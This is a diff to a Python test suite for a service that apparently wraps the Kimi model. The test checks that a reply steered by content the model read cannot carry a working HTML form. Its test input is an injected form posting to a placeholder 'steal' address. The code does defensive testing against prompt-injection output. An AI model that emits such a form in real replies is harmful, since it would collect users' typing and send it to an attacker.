@@ -6,6 +6,7 @@ Every case goes over real HTTP to tests/kimi_server.py; nothing in the SDK is fa
 from __future__ import annotations
 
 import asyncio
+import re
 import json
 import logging
 
@@ -372,12 +373,16 @@ async def test_a_stop_while_a_document_is_read_deletes_the_uploaded_file(service
 
 
 async def test_a_reply_cannot_carry_a_form(service, upstream):
-    """A reply steered by what Kimi read: form tags outside code show as text, so no click or typing
-    in a reply can be sent anywhere; code that shows a form keeps it as it is."""
+    """A reply steered by what Kimi read: its form tags show as text (an invisible break after "<"),
+    so no click or typing in a reply can be sent anywhere; a fenced code block keeps its code as
+    written, for its copy button."""
     injected = (
-        '<form action="http://198.51.100.1/steal"><input name="q"><BUTTON>go</BUTTON></form> and `<form>` in code'
+        '<form action="http://198.51.100.1/steal"><input name="q"><BUTTON>go</BUTTON></form> and `<form>` inline'
+        "\n```html\n<form><input></form>\n```\nthe end"
     )
     answer = answer_of((await run(service, injected))[-1].messages)
-    assert "<form" not in answer.replace("`<form>`", "") and "<input" not in answer and "<BUTTON" not in answer
-    assert '&lt;form action="http://198.51.100.1/steal"&gt;' not in answer  # only the tag's opening is escaped
-    assert '&lt;form action="http://198.51.100.1/steal">' in answer and "`<form>` in code" in answer
+    prose, code = answer.split("```html")
+    assert not re.search(r"<(form|input|button)", prose, re.I)
+    assert '<\u200bform action="http://198.51.100.1/steal"><\u200binput' in prose  # shows the same
+    assert "`<\u200bform>` inline" in prose
+    assert "\n<form><input></form>\n" in code
